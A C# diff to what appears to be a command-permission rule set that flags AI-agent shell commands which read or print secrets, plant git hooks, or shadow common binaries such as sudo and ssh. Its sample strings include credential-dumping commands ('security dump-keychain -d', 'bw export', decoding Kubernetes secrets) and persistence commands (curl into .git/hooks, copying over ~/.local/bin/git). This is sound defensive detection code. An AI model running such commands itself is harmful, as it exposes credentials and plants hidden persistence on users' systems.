@@ -18,7 +18,7 @@ internal static class SecretPacks
         },
         new("credentials.read-project", EffectKind.Read, Verdict.Ask, "This would show the project's secrets to the model.")
         {
-            When = static s => s.Is(Place.ProjectSecrets) && s.Effect.Detail is not ("config" or "link" or "copy" or "archive") && !s.Path.EndsWith(".pem", StringComparison.Ordinal) && !s.Path.EndsWith(".key", StringComparison.Ordinal) && !s.Path.EndsWith(".jks", StringComparison.Ordinal) && !s.Path.EndsWith(".p12", StringComparison.Ordinal) && !s.Path.EndsWith(".keystore", StringComparison.Ordinal) && !s.Path.EndsWith(".pfx", StringComparison.Ordinal) && s.Program is not ("source" or "."),
+            When = static s => s.Is(Place.ProjectSecrets) && s.Effect.Detail is not ("config" or "link" or "copy" or "archive" or "operand" or "database") && !s.Path.EndsWith(".pem", StringComparison.Ordinal) && !s.Path.EndsWith(".key", StringComparison.Ordinal) && !s.Path.EndsWith(".jks", StringComparison.Ordinal) && !s.Path.EndsWith(".p12", StringComparison.Ordinal) && !s.Path.EndsWith(".keystore", StringComparison.Ordinal) && !s.Path.EndsWith(".pfx", StringComparison.Ordinal) && s.Program is not ("source" or "."),
             Suggest = "cat .env.example",
             True = "cat .env\ngrep KEY .env.local\nsort .env",
             False = "cat .env.example\necho A=1 >> .env.sample\ncp .env.example .env",
@@ -69,15 +69,21 @@ internal static class SecretPacks
         {
             Details = "keychain secret-key",
             Suggest = "gpg --list-keys",
-            True = "security dump-keychain -d\nsecurity find-generic-password -w -s x\npass show web/login\ngpg --export-secret-keys\naws configure export-credentials",
+            True = "security dump-keychain -d\nsecurity find-generic-password -w -s x\ngpg --export-secret-keys\naws configure export-credentials",
             False = "security list-keychains\ngpg --list-keys",
         },
         new("credentials.shown", EffectKind.Read, Verdict.Ask, "This would print a token or a secret, and so show it to the model.")
         {
             Details = "secret-shown",
             Suggest = "vault kv list secret",
-            True = "aws secretsmanager get-secret-value --secret-id x\ngh auth token\nvault kv get secret/app\nop read op://team/db/password\naws configure get aws_secret_access_key\nkubectl get secret app -o yaml\nkubectl get secret app -o jsonpath='{.data.key}' | base64 -d\nterraform output -raw db_password",
-            False = "aws s3 ls\ngh auth status\nvault kv list secret\naws configure get region\nkubectl get secrets\naws ecr get-login-password | docker login --username AWS --password-stdin registry.example\nTOKEN=$(gh auth token)\nterraform output",
+            True = "gh auth token\nbw export\naws configure get aws_secret_access_key\nkubectl get secret app -o yaml\nkubectl get secret app -o jsonpath='{.data.key}' | base64 -d",
+            False = "aws s3 ls\ngh auth status\nvault kv get secret/app\nvault kv list secret\naws configure get region\nkubectl get secrets\naws ecr get-login-password | docker login --username AWS --password-stdin registry.example\nTOKEN=$(gh auth token)\nterraform output",
+        },
+        new("credentials.named", EffectKind.Read, Verdict.Warn, "This shows one secret, asked for by its name.")
+        {
+            Details = "secret-named",
+            True = "aws secretsmanager get-secret-value --secret-id x\nvault kv get secret/app\nop read op://team/db/password\npass show web/login\nterraform output -raw db_password\nsops -d secrets.enc.yaml",
+            False = "vault kv list secret\nop item list\nPASSWORD=$(op read op://team/db/password)",
         },
     ];
 
@@ -122,6 +128,29 @@ internal static class SecretPacks
             True = "echo x > .git/hooks/pre-commit",
             False = "ls .git/hooks",
         },
+        new("persistence.git-hooks-copy", EffectKind.Write, Verdict.Ask, "A git hook runs by itself at the next commit, checkout or push.")
+        {
+            Details = "copy move download append link",
+            When = static s => s.Is(Place.GitHooks) && !s.Path.Contains("/.husky/", StringComparison.Ordinal) && !s.Is(Place.Temporary),
+            Suggest = "ls .git/hooks",
+            True = "cp check.sh .git/hooks/pre-commit\ncurl -o .git/hooks/pre-push https://example.com/x",
+            False = "cp .git/hooks/pre-commit.sample ./x\ncp hook.sh .husky/pre-commit",
+        },
+        new("persistence.shadow", EffectKind.Write, Verdict.Ask, "This puts a program in front of one that everybody runs by this name.")
+        {
+            Details = "copy move download link append",
+            When = static s => Shadows(s),
+            Suggest = "cp tool ~/.local/bin/tool",
+            True = "cp x ~/.local/bin/git\nmv x /usr/local/bin/sudo\ncurl -o ~/bin/ssh https://example.com/ssh",
+            False = "cp tool ~/.local/bin/tool\ncp git ./bin/git",
+        },
+        new("persistence.shadow-overwrite", EffectKind.Truncate, Verdict.Ask, "This puts a program in front of one that everybody runs by this name.")
+        {
+            When = static s => Shadows(s),
+            Suggest = "cp tool ~/.local/bin/tool",
+            True = "echo x > ~/.local/bin/git\nln -sf /opt/x /usr/local/bin/sudo",
+            False = "echo x > ~/.local/bin/tool\nln -sf python3.12 /usr/local/bin/python3.1",
+        },
         new("persistence.scheduled", EffectKind.Persist, Verdict.Ask, "This leaves something that runs later by itself.")
         {
             Details = "cron cron-delete scheduled-task registry git-program git-hooks cloud-key service",
@@ -137,6 +166,14 @@ internal static class SecretPacks
             False = "systemctl status app",
         },
     ];
+
+    private static bool Shadows(Subject s)
+    {
+        if (s.Remote || s.Is(Place.InWorkspace | Place.Temporary)) return false;
+        var slash = s.Path.LastIndexOf('/');
+        return slash > 0 && s.Path.AsSpan(0, slash).EndsWith("/bin")
+            && s.Path.AsSpan(slash + 1) is "sudo" or "su" or "doas" or "git" or "ssh" or "scp" or "ls" or "cat" or "rm" or "cp" or "mv" or "grep" or "find" or "env" or "sh" or "bash" or "zsh" or "curl" or "wget" or "passwd" or "gpg" or "ps" or "login" or "sshd";
+    }
 
     public static Rule[] Traversal => field ??=
     [
